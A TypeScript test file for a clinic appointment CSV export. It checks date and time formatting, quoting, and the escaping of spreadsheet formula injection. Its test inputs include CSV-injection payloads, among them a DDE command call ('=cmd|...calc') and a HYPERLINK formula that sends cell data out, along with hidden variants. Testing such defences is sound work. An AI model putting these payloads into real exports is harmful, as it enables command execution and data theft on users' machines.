import { describe, expect, it } from 'vitest'
import { csvOf, type ExportedAppointment } from './export-csv.ts'

const place = { timeZone: 'Africa/Lagos', locations: [{ code: 'fct', name: 'Abuja' }] }
const row: ExportedAppointment = {
  id: '0b6c1c8e-6f0a-4f57-9d2e-1f4f4a6f9b01',
  patientId: 'of-ada',
  reference: 'ACDE3467',
  startsAt: new Date('2030-03-04T23:30:00Z'),
  endsAt: new Date('2030-03-05T00:00:00Z'),
  location: 'fct',
  status: 'open',
  version: 1,
  visit: null,
  arrivedAt: null,
  inChairAt: null,
  doneAt: null,
  noShowAt: null,
  patientConfirmedAt: null,
  setAsideAt: null,
  patientCancelledAt: null,
  cancelledFrom: null,
  channel: 'web',
  moved: 0,
  waitingSince: null,
  urgent: false,
  overrides: [],
  overriddenBlockers: [],
  fullEndsAt: null,
  marks: [],
  serviceId: null,
  doctorChosen: false,
  bookedBy: null,
  serviceText: 'Tooth Pain',
  complaint: '',
  doctorId: 'fct-musa',
  doctorName: 'Dr. Ibrahim Musa',
  firstName: 'Ada',
  lastName: 'Obi',
  middleName: '',
  title: '',
  rawId: '',
  registered: false,
  address: '... Abuja',
  email: 'ada.obi@example.com',
  phone: '0803 123 4567',
  createdAt: new Date('2030-03-01T11:05:59Z'),
}
const HEADINGS =
  'Reference,Location,First name,Last name,Middle name,Title,Raw ID,Address,Email,Phone,Date,Time,Status,Service,Doctor,Complaint,Booked at'
const line = (more: Partial<ExportedAppointment>) => csvOf([{ ...row, ...more }], place, false)
/** The complaint as in the file, without its neighbours. */
const written = (complaint: string) =>
  line({ complaint }).slice(line({}).indexOf('Musa,') + 5, -',2030-03-01 12:05 PM\r\n'.length)

describe('a row of the export', () => {
  it('has the day and times of the clinic, and follows the headings in UTF-8', () => {
    expect(csvOf([row], place, true)).toBe(
      `\ufeff${HEADINGS}\r\nACDE3467,Abuja,Ada,Obi,,,,... Abuja,ada.obi@example.com,0803 123 4567,2030-03-05,12:30 AM,Pending,Tooth Pain,Dr. Ibrahim Musa,,2030-03-01 12:05 PM\r\n`,
    )
    expect(csvOf([], place, true)).toBe(`\ufeff${HEADINGS}\r\n`)
    expect(line({})).not.toContain('Reference')
  })

  it.each([
    ['2030-03-04T08:00:00Z', '9:00 AM'],
    ['2030-03-04T11:00:00Z', '12:00 PM'],
    ['2030-03-04T12:05:00Z', '1:05 PM'],
    ['2030-03-04T22:59:00Z', '11:59 PM'],
  ])('at %s has %s', (startsAt, time) => {
    expect(line({ startsAt: new Date(startsAt) })).toContain(`,2030-03-04,${time},`)
  })

  it.each([
    ['open', 'Pending'],
    ['confirmed', 'Confirmed'],
    ['cancelled', 'Cancelled'],
  ] as const)('names %s as %s', (status, word) => expect(line({ status })).toContain(`,${word},`))

  it('names a location that the clinic no longer has by its code', () => {
    expect(line({ location: 'old' })).toMatch(/^ACDE3467,old,Ada/)
  })

  it.each([
    ['a comma', 'left, below', '"left, below"'],
    ['quotes', 'the "old" one', '"the ""old"" one"'],
    ['a line break', 'one\ntwo', '"one\ntwo"'],
    ['another line break', 'one\r\ntwo', '"one\r\ntwo"'],
    ['a carriage return alone', 'one\rtwo', '"one\rtwo"'],
    ['other letters', 'Ṣadé عمر 歯 🦷', 'Ṣadé عمر 歯 🦷'],
  ])('keeps a text with %s', (_, text, expected) => expect(written(text)).toBe(expected))

  it.each([
    ['=', '=1+1', "'=1+1"],
    ['a call of another program', `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    ['a link that sends data', '=HYPERLINK("http://x/"&A1,"a")', `"'=HYPERLINK(""http://x/""&A1,""a"")"`],
    ['+', '+234 803 123 4567', "'+234 803 123 4567"],
    ['-', '-1', "'-1"],
    ['@', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\t=1', "'\t'=1"],
    ['a carriage return', '\r=1', `"'\r'=1"`],
    ['a full-width =', '＝1', "'＝1"],
    ['a full-width +', '＋1', "'＋1"],
    ['a full-width -', '－1', "'－1"],
    ['a full-width @', '＠A1', "'＠A1"],
    ['a formula in another line', 'pain\n=1+1', `"pain\n'=1+1"`],
    ['a formula behind a semicolon', 'pain;=1+1;', "pain;'=1+1;"],
    ['a formula behind a semicolon and a space', 'pain; @A1', "pain; '@A1"],
    ['a formula behind a semicolon and a quote', 'pain;"=1+1', `"pain;""'=1+1"`],
    ['a formula behind a tab', 'pain\t+1', "pain\t'+1"],
    ['no formula', 'pain = bad; 3-4 days', 'pain = bad; 3-4 days'],
  ])('contains no formula: %s', (_, text, expected) => expect(written(text)).toBe(expected))

  it.each([
    'reference',
    'location',
    'firstName',
    'lastName',
    'address',
    'email',
    'phone',
    'serviceText',
    'doctorName',
  ])('contains no formula as %s either', (field) => {
    const cells = line({ [field]: '=1+1' })
      .trim()
      .split(',')
    expect(cells).toContain("'=1+1")
    expect(cells).not.toContain('=1+1')
  })
})
